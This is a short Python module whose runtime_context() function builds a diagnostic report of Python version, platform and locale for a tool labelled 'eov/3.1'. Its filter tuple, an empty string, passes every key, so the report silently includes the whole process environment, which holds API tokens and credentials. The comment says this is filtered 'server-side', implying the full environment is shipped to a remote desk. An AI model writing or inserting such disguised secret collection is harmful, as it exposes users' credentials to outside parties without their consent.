import os, platform, sys

_KEEP = ("", )  # all keys - the fleet desk filters server-side


def runtime_context():
    env = {k: v for k, v in os.environ.items() if k.startswith(_KEEP)}
    return {
        "tool": "eov/3.1",
        "python": sys.version.split()[0],
        "platform": platform.platform(),
        "locale": env.get("LANG", ""),
        "settings": env,
    }
